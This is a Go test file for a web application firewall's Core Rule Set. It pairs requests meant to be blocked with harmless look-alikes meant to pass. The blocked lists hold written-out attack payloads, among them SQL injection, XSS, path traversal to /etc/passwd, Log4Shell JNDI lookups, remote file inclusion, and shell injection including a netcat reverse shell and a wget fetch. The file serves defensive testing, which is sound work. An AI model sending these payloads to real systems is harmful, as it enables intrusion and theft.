package waf_test

import (
	"fmt"
	"net/url"
	"strings"
)

// usual are the headers of usual clients.
const usual = "Host: shop.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n"

// get returns a request for a target, with more headers.
func get(target string, headers ...string) string {
	return "GET " + target + " HTTP/1.1\r\n" + usual + lines(headers) + "\r\n"
}

// arg returns a request with a parameter.
func arg(value string) string { return get("/search?q=" + url.QueryEscape(value)) }

// post returns a request with a body.
func post(contentType, body string, headers ...string) string {
	return "POST /orders HTTP/1.1\r\n" + usual + "Content-Type: " + contentType + "\r\n" + lines(headers) + ofLength(body)
}

// form returns a request with a form of one field.
func form(value string) string {
	return post("application/x-www-form-urlencoded", "text="+url.QueryEscape(value))
}

// upload returns a request with a part of a form, which has more headers, and the content of a file.
func upload(part, content string) string {
	return post("multipart/form-data; boundary=frontier",
		"--frontier\r\nContent-Disposition: form-data; name=\"file\"; filename=\"notes.txt\"\r\n"+part+"\r\n"+content+"\r\n--frontier--\r\n")
}

func lines(headers []string) string {
	var all strings.Builder
	for _, header := range headers {
		all.WriteString(header + "\r\n")
	}
	return all.String()
}

func ofLength(body string) string {
	return fmt.Sprintf("Content-Length: %d\r\n\r\n%s", len(body), body)
}

func chunked(parts ...string) string {
	var text strings.Builder
	for _, part := range parts {
		fmt.Fprintf(&text, "%x\r\n%s\r\n", len(part), part)
	}
	return "Transfer-Encoding: chunked\r\n\r\n" + text.String() + "0\r\n\r\n"
}

// family is a file of the Core Rule Set. Its rules stop some requests, and let others pass that look like them.
type family struct {
	number        int
	stopped, pass []string
}

// families are families of rules for requests.
var families = []family{
	{
		911,
		[]string{
			"PUT /a HTTP/1.1\r\n" + usual + ofLength(""), "DELETE /a HTTP/1.1\r\n" + usual + "\r\n", "PATCH /a HTTP/1.1\r\n" + usual + ofLength(""),
			"PROPFIND /a HTTP/1.1\r\n" + usual + "\r\n", "MKCOL /a HTTP/1.1\r\n" + usual + "\r\n",
		},
		[]string{
			get("/"), "HEAD /a HTTP/1.1\r\n" + usual + "\r\n", form("a"), "OPTIONS /a HTTP/1.1\r\n" + usual + "\r\n", get("/put/delete?method=patch"),
		},
	},
	{
		913,
		[]string{
			agent("sqlmap/1.7"), agent("Nikto/2.5.0"), agent("Mozilla/5.00 (Nessus)"), agent("masscan/1.3"), agent("Nuclei - Open-source project"),
		},
		[]string{
			agent("curl/8.5.0"), agent("python-requests/2.31.0"), agent("Googlebot/2.1 (+http://www.google.com/bot.html)"), agent("kube-probe/1.36"),
			agent("Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15"),
		},
	},
	{
		920,
		[]string{
			"GET /a HTTP/1.1\r\n" + usual + ofLength("a=b"), post("application/octet-stream", "a"), get("/dump.sql"), get("/a", "Lock-Token: a"),
			post("application/x-www-form-urlencoded; charset=utf-7", "a=b"), get("/search?q=%00"), get("/index.php~"),
		},
		[]string{
			get("/a?b=100%25"), post("application/json; charset=utf-8", `{"a": 1}`), get("/report.pdf"), get("/a", "Range: bytes=0-99"), post("text/xml", "<a/>"),
		},
	},
	{
		921,
		[]string{
			arg("x\r\nSet-Cookie: a=b"), arg("x\r\nLocation: http://example.org/"), form("a\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\n"),
			arg("GET /admin HTTP/1.1\r\nHost: a"), get("/a%0ab"), arg("*)(uid=*))(|(uid=*"),
		},
		[]string{
			arg("get the admin to host"), form("line one\r\nline two"), arg("set cookie"), arg("version 1.1 or 2"), arg("tea (green) and cake"),
		},
	},
	{
		922,
		[]string{
			upload("Content-Transfer-Encoding: base64\r\n", "YQ=="), upload("Content-Type: text/html; charset=ebcdic\r\n", "a"),
			upload("Content-Type: text/plain; charset=utf-7\r\n", "a"), upload("Content-Type: text/plain; charset=utf-16\r\n", "a"),
			post("multipart/form-data; boundary=frontier", "--frontier\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\nutf-7\r\n--frontier--\r\n"),
		},
		[]string{
			upload("", "a"), upload("Content-Type: text/plain\r\n", "a"), upload("Content-Type: text/plain; charset=utf-8\r\n", "a"), upload("Content-Type: image/png\r\n", "\x89PNG\r\n"),
			post("multipart/form-data; boundary=frontier", "--frontier\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\nhello\r\n--frontier--\r\n"),
		},
	},
	{
		930,
		[]string{arg("../../etc/passwd"), arg("/etc/shadow"), get("/.git/config"), get("/.env"), form(`..\..\windows\win.ini`)},
		[]string{arg("a/b/c.txt"), arg("see above..."), get("/etc"), arg("1..2"), form("the password is in the shadow")},
	},
	{
		931,
		[]string{
			get("/a?page=http://203.0.113.7/shell.txt"), get("/a?page=ftp://203.0.113.7/a"), get("/a?mosConfig_absolute_path=http://example.org/a.php"), get("/a?page=http://example.org/a.txt?"),
			get("/a?path=https://198.51.100.1/b"),
		},
		[]string{get("/a?page=7"), get("/a?page=about.html"), get("/a?url=/local/path"), get("/a?version=10.0.0.1"), get("/a?next=shop.example.com")},
	},
	{
		932,
		[]string{arg(";cat /etc/passwd"), arg("$(whoami)"), arg("| wget http://example.org/a.sh"), arg("`uname -a`"), get("/a", "X-Test: () { :; }; echo a"), form("; nc -e /bin/sh 203.0.113.7 4444")},
		[]string{arg("cat food"), arg("who am I?"), arg("a; b; c"), form("50% off, echo dot"), arg("bread & butter")},
	},
	{
		933,
		[]string{arg("<?php echo 1; ?>"), arg("php://input"), arg("phpinfo()"), form(`O:8:"stdClass":1:{s:1:"a";i:1;}`), arg("$_GET['a']"), arg("eval(base64_decode('YQ=='))")},
		[]string{get("/index.php?id=7"), arg("php developer"), arg("the base of 64 columns"), form("print, echo and include"), arg("$5 or $6")},
	},
	{
		934,
		[]string{
			arg("require('child_process').exec('id')"), arg("http://169.254.169.254/latest/meta-data/"), post("application/json", `{"__proto__": {"admin": true}}`),
			arg("process.binding('spawn_sync')"), arg("Process.spawn('id')"), arg("_$$ND_FUNC$$_function (){}()"),
		},
		[]string{arg("require a process"), arg("169 meta data"), post("application/json", `{"proto": {"admin": false}}`), arg("{a: 1}"), arg("function of the eval board")},
	},
	{
		941,
		[]string{arg("<script>alert(1)</script>"), arg(`<img src=x onerror=alert(1)>`), arg("javascript:alert(1)"), form(`<svg onload=alert(1)>`), arg(`<iframe src="javascript:alert(1)">`)},
		[]string{arg("a < b > c"), arg("script of a play"), arg("I <3 you"), form("on load and on error"), arg("javascript course")},
	},
	{
		942,
		[]string{arg("1' UNION SELECT password FROM users--"), arg("' or '1'='1"), arg("1; DROP TABLE users--"), form("1 and sleep(5)"), arg("1' AND benchmark(1000000,md5(1))#")},
		[]string{arg("O'Brien"), arg("select a union of two"), arg("drop the table at the door"), form("rock'n'roll"), arg("1 or 2")},
	},
	{
		943,
		[]string{
			get("/a?PHPSESSID=0123456789"), get("/a?jsessionid=0123456789"), get("/a?phpsessid=1", "Referer: http://example.org/"), get("/a?ASPSESSIONID=1"),
			arg(`<meta http-equiv="Set-Cookie" content="a=b">`), arg("document.cookie='a=b; expires=1'"),
		},
		[]string{
			get("/a?id=0123456789"), get("/a", "Cookie: PHPSESSID=0123456789"), arg("cookie recipes"), get("/a?session=1", "Referer: http://shop.example.com/"),
			get("/a?phpsessid=1", "Referer: http://shop.example.com/b"),
		},
	},
	{
		944,
		[]string{
			arg("java.lang.Runtime.getRuntime().exec('id')"), arg("${jndi:ldap://203.0.113.7/a}"), get("/a", "X-Api-Version: ${jndi:ldap://203.0.113.7/a}"),
			arg("java.lang.ProcessBuilder"), form("class.module.classLoader.resources.context.parent.pipeline.first.pattern=a"), arg("org.apache.commons.collections.functors.InvokerTransformer"),
		},
		[]string{arg("java developer"), arg("the class of 2026"), arg("$5 for a cup of java"), form("a runtime of two hours"), arg("org chart")},
	},
}

// agent returns a request of a program.
func agent(name string) string {
	return "GET /a HTTP/1.1\r\nHost: shop.example.com\r\nAccept: */*\r\nUser-Agent: " + name + "\r\n\r\n"
}
